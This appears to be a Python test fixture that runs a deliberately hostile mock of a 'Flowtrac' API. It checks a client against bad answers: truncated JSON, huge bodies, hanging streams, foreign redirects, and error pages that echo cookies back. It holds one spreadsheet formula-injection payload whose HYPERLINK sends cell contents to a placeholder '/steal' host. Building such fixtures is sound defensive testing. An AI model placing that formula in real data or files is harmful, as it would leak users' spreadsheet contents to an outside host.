"""A small, deliberately hostile Flowtrac look-alike for tests (not the emulator).

It serves just enough of the API to get a run going (login, /products, /processes, a listing
and writes kept in a dict) and, per kind of request, answers in one chosen hostile way: an
HTML page with status 200, JSON cut off, a JSON object where a list belongs, a 10 MB body, an
answer that never finishes, a redirect to another host, the wrong content type, or an error
page that quotes the request's Cookie header back.  ``ledger`` records the writes it really
applied, so a test can check that nothing is reported done that was not.

Runs in a background thread with its own event loop (click's CliRunner is synchronous)."""

from __future__ import annotations

import asyncio
import json
import uuid
from dataclasses import dataclass, field
from functools import partial
from typing import Any

from aiohttp import web
from app_thread import AppThread

PAGE = (b"<!DOCTYPE html><html><head><title>Sign in - Corporate Proxy</title></head>"
        b"<body><h1>Sign in</h1><p>Your session has ended.</p></body></html>")
TEN_MB = 10 * 2**20
#: A refusal whose words a spreadsheet would run as a formula.
FORMULA_ERROR = '=HYPERLINK("http://198.51.100.7/steal?"&A1,"Click to fix")'

#: Hostile answers a test may pick for the listing (GET) or for writes (POST/PUT/DELETE).
KINDS = ("normal", "html", "truncated", "object", "list", "huge", "hang", "cut", "redirect",
         "wrong_type_text", "wrong_type_binary", "echo_cookie_400", "echo_cookie_500",
         "echo_cookie_401", "formula_error")


@dataclass
class Behaviour:
    listing: str = "normal"
    writes: str = "normal"
    login: str = "normal"
    #: Whether a write answered in a hostile way was applied all the same.
    apply_hostile_writes: bool = False
    #: Where "redirect" sends the client.
    redirect_to: str = ""


@dataclass
class Seen:
    method: str
    path: str
    cookie: str


@dataclass
class HostileState:
    behaviour: Behaviour = field(default_factory=Behaviour)
    products: list[str] = field(default_factory=list)
    processes: list[str] = field(default_factory=list)
    lines: dict[str, dict[str, Any]] = field(default_factory=dict)
    ledger: list[tuple[str, str]] = field(default_factory=list)
    seen: list[Seen] = field(default_factory=list)


def _matches(record: dict[str, Any], query: Any) -> bool:
    for key, value in query.items():
        column = key.removesuffix("-in").removesuffix("-eq")
        if column not in record:
            continue
        wanted = {v.lower() for v in value.split(",")}
        if str(record[column]).lower() not in wanted:
            return False
    return True


async def _hostile(kind: str, request: web.Request, state: HostileState,
                   good: Any) -> web.StreamResponse:
    """The answer of ``kind`` (``good`` is what an honest server would have sent)."""
    cookie = request.headers.get("Cookie", "")
    if kind == "normal":
        return web.json_response(good)
    if kind == "html":
        return web.Response(body=PAGE, content_type="text/html")
    if kind == "truncated":
        payload = json.dumps(good or [{"id": str(uuid.uuid4()), "product_id": "a"}]).encode()
        return web.Response(body=payload[: len(payload) // 2], content_type="application/json")
    if kind == "object":
        return web.json_response({"data": good, "page": 1})
    if kind == "list":
        return web.json_response([1, "two", None])
    if kind == "huge":
        filler = b"<p>" + b"lorem ipsum " * (TEN_MB // 12) + b"</p>"
        return web.Response(body=PAGE.replace(b"</body>", filler + b"</body>"),
                            content_type="text/html")
    if kind in ("hang", "cut"):
        response = web.StreamResponse(headers={"Content-Type": "application/json"})
        response.content_length = 4096
        await response.prepare(request)
        await response.write(b'[{"id": "')
        if kind == "cut":
            assert request.transport is not None
            request.transport.close()
            return response
        await asyncio.sleep(3600)
        return response
    if kind == "redirect":
        raise web.HTTPTemporaryRedirect(state.behaviour.redirect_to + request.path_qs)
    if kind == "wrong_type_text":
        return web.Response(text=json.dumps(good), content_type="text/plain")
    if kind == "wrong_type_binary":
        return web.Response(body=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64),
                            content_type="application/json")
    if kind == "formula_error":
        return web.json_response({"error": FORMULA_ERROR}, status=400)
    if kind.startswith("echo_cookie_"):
        status = int(kind.rsplit("_", 1)[1])
        page = f"<html><title>Error {status}</title><body>Bad request. Your headers: " \
               f"Cookie: {cookie}</body></html>"
        return web.Response(status=status, text=page, content_type="text/html")
    raise AssertionError(kind)


def make_app(state: HostileState) -> web.Application:
    async def remember(request: web.Request) -> None:
        state.seen.append(Seen(request.method, request.path, request.headers.get("Cookie", "")))

    async def login(request: web.Request) -> web.StreamResponse:
        await remember(request)
        if state.behaviour.login == "normal":
            response = web.json_response({"logged_in": True})
            response.set_cookie("user", uuid.uuid4().hex)
            return response
        return await _hostile(state.behaviour.login, request, state, {})

    async def catalog(key: str, request: web.Request) -> web.StreamResponse:
        await remember(request)
        ids = state.products if key == "product_id" else state.processes
        return web.json_response([{key: i, "active": "Active"} for i in ids])

    async def listing(request: web.Request) -> web.StreamResponse:
        await remember(request)
        good = [r for r in state.lines.values() if _matches(r, request.query)]
        return await _hostile(state.behaviour.listing, request, state, good)

    async def write(request: web.Request) -> web.StreamResponse:
        await remember(request)
        body = await request.json()
        kind = state.behaviour.writes
        applied: dict[str, Any] | None = None
        if kind == "normal" or (state.behaviour.apply_hostile_writes and kind not in
                                ("redirect", "formula_error")
                                and not kind.startswith("echo_cookie_")):
            applied = _apply(state, request.method, body)
        good = applied if applied is not None else {}
        return await _hostile(kind, request, state, good)

    app = web.Application()
    app.router.add_post("/api/device-login/", login)
    app.router.add_get("/api/products", partial(catalog, "product_id"))
    app.router.add_get("/api/processes", partial(catalog, "process_id"))
    app.router.add_get("/api/product-processes", listing)
    for method in ("POST", "PUT", "DELETE"):
        app.router.add_route(method, "/api/product-processes", write)
    app.router.add_route("*", "/{tail:.*}", _trap(state))
    return app


def _trap(state: HostileState) -> Any:
    async def handler(request: web.Request) -> web.Response:
        state.seen.append(Seen(request.method, request.path, request.headers.get("Cookie", "")))
        return web.json_response([])
    return handler


def _apply(state: HostileState, method: str, body: dict[str, Any]) -> dict[str, Any]:
    if method == "POST":
        record = {"id": str(uuid.uuid4()), "active": "Active", **body}
        state.lines[record["id"]] = record
    elif method == "PUT":
        record = state.lines[body["id"]]
        record.update(body)
    else:
        record = state.lines.pop(body["id"])
    state.ledger.append((method, record["id"]))
    return dict(record)


class HostileServer(AppThread):
    """``with HostileServer() as server:`` serves on ``server.base_url`` until the block ends."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        super().__init__(host)
        self.state = HostileState()

    @property
    def behaviour(self) -> Behaviour:
        return self.state.behaviour

    def make_app(self) -> web.Application:
        return make_app(self.state)
